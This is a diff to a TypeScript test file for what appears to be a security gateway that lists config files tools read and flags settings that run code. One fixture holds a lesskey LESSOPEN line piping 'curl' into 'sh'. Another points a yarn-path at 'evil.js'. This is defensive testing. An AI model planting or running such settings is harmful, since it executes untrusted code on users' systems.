@@ -330,11 +330,11 @@ test('D8 round 13 npmrc: script-shell, shell, git, editor and node-options with 
 
 test('D8 round 13 the table: terraform/tofu, docker, psql and npm read their files and the variables naming others', () => {
   const home = '/home/a';
-  assert.deepEqual(configFilesOf('tofu', {}, home).filter((f) => f.format !== 'program_folder').map((f) => f.path), ['/home/a/.aws/config', '/home/a/.aws/credentials', '/home/a/.terraformrc', '/home/a/.tofurc', '/home/a/.config/opentofu/tofurc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/home/a/.config/opentofu/*.tfrc', '/home/a/.config/opentofu/*.tfrc.json']);
-  assert.deepEqual(configFilesOf('terraform', { TF_CLI_CONFIG_FILE: '/etc/tf.rc', XDG_CONFIG_HOME: '/x' }, home).filter((f) => f.format !== 'program_folder').map((f) => f.path).slice(2), ['/etc/tf.rc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/x/opentofu/*.tfrc', '/x/opentofu/*.tfrc.json']);
+  assert.deepEqual(configFilesOf('tofu', {}, home).filter((f) => f.format !== 'program_folder' && f.format !== 'google_credentials').map((f) => f.path), ['/home/a/.aws/config', '/home/a/.aws/credentials', '/home/a/.terraformrc', '/home/a/.tofurc', '/home/a/.config/opentofu/tofurc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/home/a/.config/opentofu/*.tfrc', '/home/a/.config/opentofu/*.tfrc.json']);
+  assert.deepEqual(configFilesOf('terraform', { TF_CLI_CONFIG_FILE: '/etc/tf.rc', XDG_CONFIG_HOME: '/x' }, home).filter((f) => f.format !== 'program_folder' && f.format !== 'google_credentials').map((f) => f.path).slice(2), ['/etc/tf.rc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/x/opentofu/*.tfrc', '/x/opentofu/*.tfrc.json']);
   assert.deepEqual(configFilesOf('docker', { DOCKER_CONFIG: '~/d/' }, home).filter((f) => f.format === 'docker').map((f) => [f.path, f.via]), [['/home/a/d/config.json', 'DOCKER_CONFIG=~/d/']]);
   assert.deepEqual(configFilesOf('psql', { PGSYSCONFDIR: '/etc/pg' }, home).map((f) => f.path), ['/etc/pg/psqlrc', '/etc/pg/psqlrc-*', '/home/a/.psqlrc', '/home/a/.psqlrc-*']);
-  assert.deepEqual(configFilesOf('npx', { NPM_CONFIG_USERCONFIG: '/etc/npmrc' }, home, '/home/a/app').map((f) => f.path), ['/home/a/app/.npmrc', '/home/a/.npmrc', '/home/.npmrc', '/.npmrc', '/etc/npmrc']);
+  assert.deepEqual(configFilesOf('npx', { NPM_CONFIG_USERCONFIG: '/etc/npmrc' }, home, '/home/a/app').filter((f) => f.format === 'npmrc').map((f) => f.path), ['/home/a/app/.npmrc', '/home/a/.npmrc', '/home/.npmrc', '/.npmrc', '/etc/npmrc']);
 });
 
 test('D8 round 13 git config: remote uploadpack/receivepack and `ext::` remotes (a url, or a url.insteadOf rewriting to one) run commands; ordinary remotes pass', () => {
@@ -427,8 +427,48 @@ test('D8 round 17 the table: Terraform\'s implied local mirrors and the project\
     ['/usr/share/terraform/plugins', false],
     ['/home/a/infra/terraform.d/plugins', false],
     ['/home/a/infra/.terraform/providers', true],
+    ['/home/a/infra/.terraform/plugins', true],
   ]);
   // without a working folder the project's folders are not listed
   assert.ok(!configFilesOf('tofu', {}, home).some((f) => f.path?.includes('.terraform/providers')));
   assert.deepEqual(configFilesOf('az', {}, home).map((f) => [f.path, f.format]), [['/home/a/.azure/cliextensions', 'program_folder']]);
+});
+
+test('D8 round 18 the table: TF_DATA_DIR moves `.terraform`, Google\'s credential file, the Azure CLI\'s folders by variable, lesskey, yarn, pnpm and npm-init files', () => {
+  const home = '/home/a';
+  const folders = (env: Record<string, string>) => configFilesOf('terraform', env, home, '/home/a/infra').filter((f) => f.writtenOnly).map((f) => [f.path, f.via]);
+  assert.deepEqual(folders({ TF_DATA_DIR: 'tfdata' }), [['/home/a/infra/tfdata/providers', 'TF_DATA_DIR=tfdata'], ['/home/a/infra/tfdata/plugins', 'TF_DATA_DIR=tfdata']]);
+  assert.deepEqual(folders({ TF_DATA_DIR: '/srv/tf/' }), [['/srv/tf/providers', 'TF_DATA_DIR=/srv/tf/'], ['/srv/tf/plugins', 'TF_DATA_DIR=/srv/tf/']]);
+  // relative to a working folder that is not known: no path (the gateway fails closed when the action writes anything)
+  assert.deepEqual(configFilesOf('terraform', { TF_DATA_DIR: 'x' }, home).filter((f) => f.writtenOnly).map((f) => f.path), [null, null]);
+  const of = (program: string, env: Record<string, string> = {}) => configFilesOf(program, env, home, '/home/a/app').filter((f) => f.format !== 'program_folder' || program === 'az').map((f) => [f.path, f.format, f.writtenOnly ?? false]);
+  assert.deepEqual(of('pulumi').filter(([, f]) => f === 'google_credentials'), [['/home/a/.config/gcloud/application_default_credentials.json', 'google_credentials', false]]);
+  assert.deepEqual(of('terraform', { CLOUDSDK_CONFIG: '/g' }).filter(([, f]) => f === 'google_credentials'), [['/g/application_default_credentials.json', 'google_credentials', false]]);
+  assert.deepEqual(of('terraform', { GOOGLE_APPLICATION_CREDENTIALS: '/k.json' }).filter(([, f]) => f === 'google_credentials'), [['/k.json', 'google_credentials', false]]);
+  assert.deepEqual(of('az', { AZURE_CONFIG_DIR: '/az' }), [['/az/cliextensions', 'program_folder', false]]);
+  assert.deepEqual(of('az', { AZURE_EXTENSION_DIR: '/ext' }), [['/ext', 'program_folder', false]]);
+  assert.deepEqual(of('less'), [['/home/a/.config/lesskey', 'lesskey', false], ['/home/a/.config/lesskey', 'lesskey', false], ['/home/a/.lesskey', 'lesskey', false]]);
+  assert.deepEqual(of('less', { LESSKEYIN: '/etc/lk' }), [['/etc/lk', 'lesskey', false]]);
+  assert.deepEqual(of('pnpm').slice(0, 1).concat(of('pnpm').filter(([, f]) => f === 'code_file').slice(0, 1)), [['/home/a/app/.npmrc', 'npmrc', false], ['/home/a/app/.pnpmfile.cjs', 'code_file', true]]);
+  assert.ok(of('npm').some(([p, f, w]) => p === '/home/a/.npm-init.js' && f === 'code_file' && w));
+  assert.deepEqual(of('yarn').filter(([, f, w]) => f === 'yarnrc' && !w), [['/home/a/.yarnrc', 'yarnrc', false], ['/home/a/.yarnrc.yml', 'yarnrc', false]]);
+  assert.ok(of('yarn').some(([p, f, w]) => p === '/home/a/app/.yarnrc.yml' && f === 'yarnrc' && w));
+});
+
+test('D8 round 18 the readers: a lesskey `#env` LESSOPEN, yarn\'s `yarn-path`/`yarnPath`/plugins, an executable Google credential source', () => {
+  const settings = (format: Parameters<typeof readConfig>[0], text: string) => {
+    const r = readConfig(format, text);
+    return r.ok ? r.settings.map((s) => [s.key, s.run.kind === 'line' ? s.run.text : s.run.kind]) : r.message;
+  };
+  assert.deepEqual(settings('lesskey', '#command\nq quit\n#env\nLESSOPEN = |sh -c "curl e | sh" %s\nLESS = -R\n'), [['#env LESSOPEN', '|sh -c "curl e | sh" %s']]);
+  assert.deepEqual(settings('lesskey', '#env\nLESS = -R +G\n'), [['#env LESS', 'code']]);
+  assert.deepEqual(settings('lesskey', '#env\nLESS = -RS\n#stop\nLESSOPEN = |x %s\n'), []);
+  assert.match(String(settings('lesskey', '#env\nthis is not a setting\n')), /not `NAME = value`/);
+  assert.deepEqual(settings('yarnrc', '# yarn lockfile v1\n\nlastUpdateCheck 1700000000000\nyarn-path "./.yarn/releases/evil.js"\n'), [['yarn-path', 'code']]);
+  assert.deepEqual(settings('yarnrc', 'nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\nplugins:\n  - path: .yarn/plugins/x.cjs\n'), [['yarnPath', 'code'], ['plugins', 'code']]);
+  assert.deepEqual(settings('yarnrc', 'registry "https://registry.example.com"\nnpmRegistryServer: "https://r.example.com"\n'), []);
+  assert.deepEqual(settings('google_credentials', JSON.stringify({ type: 'external_account', credential_source: { executable: { command: '/usr/local/bin/token --x', timeout_millis: 5000 } } })), [['credential_source.executable.command', '/usr/local/bin/token --x']]);
+  assert.deepEqual(settings('google_credentials', JSON.stringify({ type: 'impersonated_service_account', source_credentials: { type: 'external_account', credential_source: { executable: {} } } })), [['source_credentials.credential_source.executable', 'code']]);
+  assert.deepEqual(settings('google_credentials', JSON.stringify({ type: 'authorized_user', client_id: 'x', refresh_token: 'y' })), []);
+  assert.match(String(settings('google_credentials', '{ not json')), /not valid JSON/);
 });
